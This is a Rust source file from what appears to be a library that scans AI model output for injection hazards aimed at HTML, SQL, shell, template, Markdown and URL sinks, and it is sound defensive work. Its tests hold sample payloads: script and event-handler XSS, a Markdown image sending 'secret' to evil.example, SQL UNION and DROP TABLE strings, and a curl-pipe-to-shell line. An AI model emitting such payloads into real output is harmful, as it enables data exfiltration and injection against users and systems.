use std::{
    borrow::Cow,
    collections::{BTreeMap, HashMap},
};

use bartizan_core::{
    Check, CheckError, Confidence, Cx, Layer, Reach, RuleRef, Sink, Span, Transform,
};
use bartizan_text::{OffsetMap, Text, View};

use super::{
    address::AllowedHosts, csv, hazard::Hazard, html, markdown, rules, shell, sql, tags, template,
    url,
};

/// Finds what the declared sink would run, load, or follow; silent where no sink is declared.
///
/// Looks at the text as received, since that is what the sink gets, then at the folded text and
/// at decoded readings with less confidence: stacks that normalise or decode once more see those.
#[derive(Debug)]
pub struct SinkHazards {
    allowed: AllowedHosts,
    scope: Scope,
}

/// Which sinks a check is for.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Scope {
    Local,
    Whole,
}

/// Confidence in a hazard that shows only after folding or decoding, relative to the plain one.
const DERIVED: f32 = 0.7;

/// Readings that a sink's own stack may make of a text. Morse code and such do not come alive.
fn may_come_alive(via: &[Transform]) -> bool {
    via.iter().all(|transform| {
        matches!(
            transform,
            Transform::Folded
                | Transform::HtmlEntities
                | Transform::UnicodeEscape
                | Transform::Url
                | Transform::QuotedPrintable
                | Transform::Concatenated
        )
    })
}

impl SinkHazards {
    /// A check for the sinks that can be judged place by place, and so within a stream: HTML, SQL,
    /// shell, templates, and CSV.
    #[must_use]
    pub const fn local(allowed: AllowedHosts) -> Self {
        Self {
            allowed,
            scope: Scope::Local,
        }
    }

    /// A check for the sinks that need the whole text: Markdown, whose references may stand at the
    /// end, and addresses.
    #[must_use]
    pub const fn whole(allowed: AllowedHosts) -> Self {
        Self {
            allowed,
            scope: Scope::Whole,
        }
    }

    fn hazards(&self, sink: Sink, text: &str) -> Vec<Hazard> {
        let mut out = Vec::new();
        match (self.scope, sink) {
            (Scope::Local, Sink::Html) => html::hazards(text, &self.allowed, &mut out),
            (Scope::Local, Sink::Sql) => sql::hazards(text, &mut out),
            (Scope::Local, Sink::Shell) => shell::hazards(text, &mut out),
            (Scope::Local, Sink::Template) => template::hazards(text, &mut out),
            (Scope::Local, Sink::Csv) => csv::hazards(text, &mut out),
            (Scope::Whole, Sink::Markdown) => markdown::hazards(text, &self.allowed, &mut out),
            (Scope::Whole, Sink::Url) => url::hazards(text, &self.allowed, &mut out),
            _ => {}
        }
        out
    }

    const fn covers(&self, sink: Sink) -> bool {
        let whole = matches!(sink, Sink::Markdown | Sink::Url);
        whole == matches!(self.scope, Scope::Whole)
    }
}

impl Check<Text<'_>> for SinkHazards {
    fn name(&self) -> &'static str {
        match self.scope {
            Scope::Local => "sink",
            Scope::Whole => "sink-whole",
        }
    }

    fn layer(&self) -> Layer {
        Layer::Sink
    }

    fn rules(&self) -> Vec<RuleRef> {
        rules::ALL
            .iter()
            .filter(|rule| rule.id != rules::HIDDEN_TEXT.id)
            .map(|rule| RuleRef::Static(rule))
            .collect()
    }

    fn reach(&self) -> Reach {
        match self.scope {
            Scope::Local => Reach::Bounded(tags::MAX_TAG as u64),
            Scope::Whole => Reach::Unbounded,
        }
    }

    fn settled(&self, text: &Text<'_>) -> Option<u64> {
        let silent = !text.sink.is_some_and(|sink| self.covers(sink));
        silent.then_some(text.main().text.len() as u64)
    }

    fn check(&self, text: &Text<'_>, cx: &mut Cx<'_>) -> Result<(), CheckError> {
        let Some(sink) = text.sink.filter(|sink| self.covers(*sink)) else {
            return Ok(());
        };
        let raw = as_received(text.raw());
        let mut seen = Seen::default();
        for (number, view) in std::iter::once(&raw).chain(text.views()).enumerate() {
            let derived = number > 0;
            if derived && (!may_come_alive(&view.via) || view.text == raw.text) {
                continue;
            }
            cx.spend(view.text.len() as u64)?;
            for hazard in self.hazards(sink, &view.text) {
                let span = view.span(hazard.range);
                if seen.covers(hazard.rule.id.as_ref(), span, derived) {
                    continue;
                }
                let confidence = hazard.confidence * if derived { DERIVED } else { 1.0 };
                cx.report_via(
                    &RuleRef::Static(hazard.rule),
                    Some(span),
                    Confidence::clamped(confidence),
                    &view.via,
                    hazard.rule.title.clone(),
                )?;
            }
        }
        Ok(())
    }
}

/// Where each rule was reported already, so that one hazard is not reported for every reading.
#[derive(Default)]
struct Seen(HashMap<String, BTreeMap<u64, u64>>);

impl Seen {
    /// Whether `span` was reported, or in another reading overlaps what was; remembers it.
    fn covers(&mut self, rule: &str, span: Span, derived: bool) -> bool {
        let places = self.0.entry(rule.to_owned()).or_default();
        let overlaps = places
            .range(..span.end().max(span.start() + 1))
            .next_back()
            .is_some_and(|(start, end)| *end > span.start() || *start == span.start());
        let known = if derived {
            overlaps
        } else {
            places.get(&span.start()) == Some(&span.end())
        };
        if !known {
            let end = places.entry(span.start()).or_default();
            *end = span.end().max(*end);
        }
        known
    }
}

/// The bytes as a sink reads them: what is not UTF-8 becomes U+FFFD.
pub(super) fn as_received(raw: &[u8]) -> View<'_> {
    if let Ok(text) = std::str::from_utf8(raw) {
        return View::plain(text);
    }
    let mut text = String::with_capacity(raw.len());
    let mut map = OffsetMap::identity();
    let mut at = 0;
    for chunk in raw.utf8_chunks() {
        let (valid, invalid) = (chunk.valid(), chunk.invalid());
        if !valid.is_empty() {
            map.push(text.len(), at, 1, 1);
            text.push_str(valid);
            at += valid.len();
        }
        if !invalid.is_empty() {
            map.push(
                text.len(),
                at,
                char::REPLACEMENT_CHARACTER.len_utf8(),
                invalid.len(),
            );
            text.push(char::REPLACEMENT_CHARACTER);
            at += invalid.len();
        }
    }
    View {
        text: Cow::Owned(text),
        map,
        via: Vec::new(),
    }
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use bartizan_core::{Limits, Origin, Report};
    use bartizan_text::{PatternsBuilder, Scanner, views::ViewLimits};

    use super::*;

    fn found(sink: Option<Sink>, raw: &[u8]) -> Vec<(String, std::ops::Range<usize>, f32)> {
        let patterns = Arc::new(PatternsBuilder::default().build());
        let scanner = Scanner::new(patterns, ViewLimits::default());
        let mut text = scanner.read(Origin::Model, raw);
        text.sink = sink;
        let mut report = Report::default();
        let allowed = AllowedHosts::new(["example.com"]).unwrap();
        for check in [
            SinkHazards::local(allowed.clone()),
            SinkHazards::whole(allowed),
        ] {
            report.run::<Text<'_>>(&check, &text, Limits::default());
        }
        assert!(report.is_complete());
        report
            .findings
            .into_iter()
            .map(|f| {
                let range = f.span.unwrap().as_range();
                (f.rule.id.to_string(), range, f.confidence.get())
            })
            .collect()
    }

    #[test]
    fn nothing_is_a_hazard_without_a_sink() {
        assert!(found(None, b"<script>alert(1)</script> {{7*7}} $(id)").is_empty());
    }

    #[test]
    fn a_hazard_belongs_to_its_sink() {
        assert!(found(Some(Sink::Sql), b"<script>alert(1)</script>").is_empty());
        assert!(found(Some(Sink::Html), b"{{7*7}}").is_empty());
        assert!(found(Some(Sink::Markdown), b"Use `rm -rf build; make` there").is_empty());
    }

    #[test]
    fn one_hazard_is_reported_once_and_in_place() {
        let text = "caf\u{e9} <script>x</script>";
        let found = found(Some(Sink::Html), text.as_bytes());
        assert_eq!(found.len(), 1, "{found:?}");
        assert_eq!(found[0].1, 6..14);
    }

    #[test]
    fn bytes_that_are_no_text_do_not_hide_or_move_a_hazard() {
        let found = found(Some(Sink::Html), b"\xff\xfe<script>x");
        assert_eq!(found[0].1, 2..10);
    }

    #[test]
    fn folded_markup_counts_less() {
        let text = "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}";
        let found = found(Some(Sink::Html), text.as_bytes());
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].1, 0..12);
        assert!(found[0].2 < 0.75);
    }

    #[test]
    fn ws_29_ordinary_answers_pass_in_markdown() {
        for text in [
            "Call `eval(x)` with `inline code`.",
            "```sh\nrm -rf build && curl https://x.example | sh\n```",
            "Review the draft; delete what you dislike",
            "Hello ${name}, your `$(id)` is fine",
            "```html\n<script>alert(1)</script>\n```",
        ] {
            assert_eq!(found(Some(Sink::Markdown), text.as_bytes()), [], "{text}");
        }
        let prose = b"Review the draft; delete what you dislike";
        for sink in Sink::ALL {
            assert_eq!(found(Some(sink), prose), [], "{sink}");
        }
    }

    #[test]
    fn ws_30_known_misses_are_seen() {
        for (sink, text) in [
            (Sink::Html, "<script src=//evil.example>"),
            (Sink::Html, "<img onerror=x>"),
            (Sink::Html, "<svg/onload=x>"),
            (Sink::Html, "<a href='&#106;avascript:alert(1)'>x</a>"),
            (Sink::Html, "<a href='data:text/html,x'>x</a>"),
            (Sink::Markdown, "![x](https://evil.example/?q=secret)"),
            (Sink::Markdown, "[x](data:text/html,x)"),
            (Sink::Sql, "DROP TABLE users"),
            (Sink::Sql, "1 UNION SELECT name, password FROM users"),
        ] {
            assert!(!found(Some(sink), text.as_bytes()).is_empty(), "{text}");
        }
    }
}
